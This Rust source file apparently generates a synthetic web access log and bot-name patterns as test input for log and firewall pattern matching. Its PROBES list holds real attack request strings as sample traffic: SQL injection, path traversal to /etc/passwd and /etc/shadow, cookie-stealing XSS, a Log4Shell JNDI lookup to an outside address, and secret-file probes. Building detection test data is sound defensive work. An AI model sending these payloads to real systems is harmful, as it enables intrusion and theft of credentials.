//! `access-log`: what a web server writes of its requests, in the combined format, and the patterns that are looked for in it.

use crate::rng::SplitMix64;

/// The version of `access-log`: raised whenever its bytes change.
pub const VERSION: u32 = 1;
/// The version of all patterns.
pub const PATTERNS_VERSION: u32 = 1;

const SEED: u64 = 404;
/// The log ends with the first line behind so many bytes.
const BYTES: usize = 1 << 20;

/// The fields of a line, each a group.
pub const FIELDS: &str = include_str!("../regex/fields.txt");
/// Patterns of requests that a firewall for web applications refuses.
pub const ATTACKS: &str = include_str!("../regex/attacks.txt");

const PATHS: [&str; 12] = [
    "/",
    "/index.html",
    "/login",
    "/api/v2/orders",
    "/api/v2/users",
    "/static/app.js",
    "/static/site.css",
    "/images/hero.webp",
    "/blog/slow-caches",
    "/search",
    "/feed.xml",
    "/favicon.ico",
];
const QUERIES: [&str; 8] = [
    "?page=2",
    "?q=winter+coat",
    "?sort=price&order=asc",
    "?id=73",
    "?utm_source=mail",
    "?lang=de",
    "?v=20261127",
    "?after=100100",
];
/// Requests of attackers and their scanners.
const PROBES: [&str; 12] = [
    "/search?q=1%27%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--",
    "/static/../../../../etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=config",
    "/cgi-bin/test.cgi?cmd=%7Ccat%20/etc/shadow",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/wp-login.php",
    "/.git/config",
    "/.env",
    "/api/v2/users?id=1%20OR%201=1",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/images/hero.webp?onerror=alert(document.cookie)",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];
const METHODS: [&str; 6] = ["GET", "GET", "GET", "POST", "HEAD", "PUT"];
const STATUSES: [u32; 8] = [200, 200, 200, 200, 301, 304, 404, 500];
const REFERRERS: [&str; 5] = [
    "-",
    "https://www.example.com/",
    "https://www.example.com/search?q=coats",
    "https://news.example.org/item?id=4711",
    "https://m.example.net/",
];
const SYSTEMS: [&str; 6] = [
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "Linux; Android 15; Pixel 9",
    "iPhone; CPU iPhone OS 19_1 like Mac OS X",
    "X11; Ubuntu; Linux aarch64; rv:144.0",
];
/// Agents are named by one of these and one of [`WORKS`], 200 names in all.
const OWNERS: [&str; 20] = [
    "Acorn", "Amber", "Basalt", "Birch", "Cobalt", "Comet", "Delta", "Ember", "Falcon", "Garnet",
    "Harbor", "Indigo", "Juniper", "Kestrel", "Lantern", "Marble", "Nimbus", "Onyx", "Pioneer",
    "Quartz",
];
const WORKS: [&str; 10] = [
    "Bot", "Spider", "Crawler", "Fetcher", "Scanner", "Monitor", "Indexer", "Probe", "Preview",
    "Archiver",
];

/// Makes the log: whole lines.
pub fn access_log() -> Vec<u8> {
    let mut rng = SplitMix64::new(SEED);
    let mut log = String::new();
    let mut second = 0;
    while log.len() < BYTES {
        second += rng.below(3);
        log.push_str(&line(&mut rng, second));
    }
    log.into_bytes()
}

/// The names of agents as a pattern: one of 200 literals.
pub fn agents() -> Vec<u8> {
    let names =
        OWNERS.iter().flat_map(|owner| WORKS.iter().map(move |work| format!("{owner}{work}")));
    (names.collect::<Vec<_>>().join("|") + "\n").into_bytes()
}

/// One of some, each as often.
fn one<T: Copy>(rng: &mut SplitMix64, some: &[T]) -> T {
    some[rng.below(some.len() as u32) as usize]
}

fn line(rng: &mut SplitMix64, second: u32) -> String {
    let address = [(); 4].map(|()| rng.between(1, 254).to_string()).join(".");
    let user = if rng.below(20) == 0 { "alice" } else { "-" };
    let time = format!(
        "27/Nov/2026:{:02}:{:02}:{:02} +0000",
        second / 3600,
        second / 60 % 60,
        second % 60
    );
    let path = match rng.below(20) {
        0 => one(rng, &PROBES).to_owned(),
        1..=8 => format!("{}{}", one(rng, &PATHS), one(rng, &QUERIES)),
        _ => one(rng, &PATHS).to_owned(),
    };
    let (method, status) = (one(rng, &METHODS), one(rng, &STATUSES));
    let bytes = if status == 304 { "-".to_owned() } else { rng.below(200_000).to_string() };
    let referrer = one(rng, &REFERRERS);
    let agent = agent(rng);
    format!(
        "{address} - {user} [{time}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{agent}\"\n"
    )
}

fn agent(rng: &mut SplitMix64) -> String {
    let (owner, work) = (one(rng, &OWNERS), one(rng, &WORKS));
    let version = rng.between(90, 144);
    match rng.below(12) {
        0 => format!(
            "Mozilla/5.0 (compatible; {owner}{work}/{}.{}; +https://example.org/bot)",
            version % 7,
            version % 10
        ),
        // Nearly one of the names.
        1 => format!("{owner}-{work}/2.{}", version % 10),
        2 => format!("curl/8.{}.0", version % 16),
        _ => {
            let system = one(rng, &SYSTEMS);
            format!(
                "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_log_has_whole_lines_of_ascii() {
        let log = access_log();
        assert!(
            log.is_ascii()
                && log.ends_with(b"\n")
                && log.len() >= BYTES
                && log.len() < BYTES + 1_000
        );
        let text = String::from_utf8(log).unwrap();
        assert!(PROBES.iter().all(|probe| text.contains(probe)));
        assert!(text.lines().all(|line| line.matches('"').count() == 6), "fields in quotes");
    }

    #[test]
    fn the_patterns_are_one_line_each_of_the_number_that_their_description_says() {
        let agents = String::from_utf8(agents()).unwrap();
        assert_eq!(agents.trim_end().split('|').count(), 200);
        assert_eq!(ATTACKS.trim_end().split(")|(?:").count(), 40);
        for pattern in [FIELDS, ATTACKS, &agents] {
            assert_eq!(pattern.lines().count(), 1);
        }
    }
}
